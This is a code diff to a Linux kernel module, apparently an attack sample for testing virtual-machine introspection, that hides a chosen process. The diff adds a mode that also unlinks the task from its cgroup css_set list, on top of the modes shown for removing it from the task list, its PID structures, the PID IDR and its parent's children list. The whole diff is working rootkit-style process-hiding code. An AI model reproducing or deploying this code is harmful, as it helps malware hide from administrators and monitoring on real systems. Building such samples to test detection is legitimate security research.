@@ -30,9 +30,17 @@
  * __unhash_process() at exit unlinks it harmlessly): wait() and the
  * process tree no longer see it. Only its css_set's task list (cg_list)
  * is left. Unloading puts it back on its parent's children list.
+ *
+ * mode=cgroup does all that and also takes the task off its css_set's
+ * task list (cg_list, under css_set_lock, not exported: csslock=0x...):
+ * no list of tasks is left at all. What still names the task is its
+ * kernel stack, run queues while it runs, timers and wait queues while it
+ * sleeps. Unloading puts it back on its css_set's list; until then the
+ * task must not exit (cgroup_exit() warns on an unlinked cg_list).
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
+#include <linux/cgroup.h>
 #include <linux/idr.h>
 #include <linux/init.h>
 #include <linux/kernel.h>
@@ -59,9 +67,13 @@ static unsigned long pidmap;
 module_param(pidmap, ulong, 0444);
 MODULE_PARM_DESC(pidmap, "address of pidmap_lock (from /proc/kallsyms), for mode=pidfree");
 
+static unsigned long csslock;
+module_param(csslock, ulong, 0444);
+MODULE_PARM_DESC(csslock, "address of css_set_lock (from /proc/kallsyms), for mode=cgroup");
+
 static char *mode = "list";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid; pidfree: also out of the IDR; tree: also off its parent's children list");
+MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid; pidfree: also out of the IDR; tree: also off its parent's children list; cgroup: also off its css_set's list");
 
 static struct task_struct *victim;
 static struct pid *victim_pid;
@@ -102,11 +114,11 @@ static int __init vmiaas_attack_hideproc_init(void)
 	rwlock_t *lock = (rwlock_t *)tasklist;
 	struct pid *p;
 
-	bool erase = mode_is("pidfree") || mode_is("tree");
+	bool erase = mode_is("pidfree") || mode_is("tree") || mode_is("cgroup");
 
 	if (pid <= 1 || !tasklist ||
 	    !(mode_is("list") || mode_is("idr") || erase) ||
-	    (erase && !pidmap))
+	    (erase && !pidmap) || (mode_is("cgroup") && !csslock))
 		return -EINVAL;
 	p = find_get_pid(pid);
 	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
@@ -140,9 +152,16 @@ static int __init vmiaas_attack_hideproc_init(void)
 		pr_info("pid %d (%s) %s the IDR\n", pid, victim->comm,
 			pid_erased ? "erased from" : "not found in");
 	}
-	if (mode_is("tree")) {
+	if (mode_is("tree") || mode_is("cgroup")) {
 		list_unlink(lock, &victim->sibling);
 		pr_info("pid %d (%s) unlinked from its parent's children list\n",
+			pid, victim->comm);
+	}
+	if (mode_is("cgroup")) {
+		spin_lock_irq((spinlock_t *)csslock);
+		list_del_init(&victim->cg_list);
+		spin_unlock_irq((spinlock_t *)csslock);
+		pr_info("pid %d (%s) unlinked from its css_set's task list\n",
 			pid, victim->comm);
 	}
 	return 0;
@@ -160,7 +179,7 @@ static void __exit vmiaas_attack_hideproc_exit(void)
 	write_lock_irq(lock);
 	if (pid_alive(victim) && list_empty(&victim->tasks))
 		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
-	if (mode_is("tree") && pid_alive(victim) &&
+	if ((mode_is("tree") || mode_is("cgroup")) && pid_alive(victim) &&
 	    list_empty(&victim->sibling))
 		list_add_tail(&victim->sibling, &victim->real_parent->children);
 	/* Hashed back only while it still points at itself and lives. */
@@ -168,6 +187,13 @@ static void __exit vmiaas_attack_hideproc_exit(void)
 	    task_pid(victim) == victim_pid)
 		hlist_add_head_rcu(link, &victim_pid->tasks[PIDTYPE_PID]);
 	write_unlock_irq(lock);
+	if (mode_is("cgroup") && pid_alive(victim)) {
+		spin_lock_irq((spinlock_t *)csslock);
+		if (list_empty(&victim->cg_list))
+			list_add_tail(&victim->cg_list,
+				      &rcu_dereference_raw(victim->cgroups)->tasks);
+		spin_unlock_irq((spinlock_t *)csslock);
+	}
 	put_task_struct(victim);
 	put_pid(victim_pid);
 }
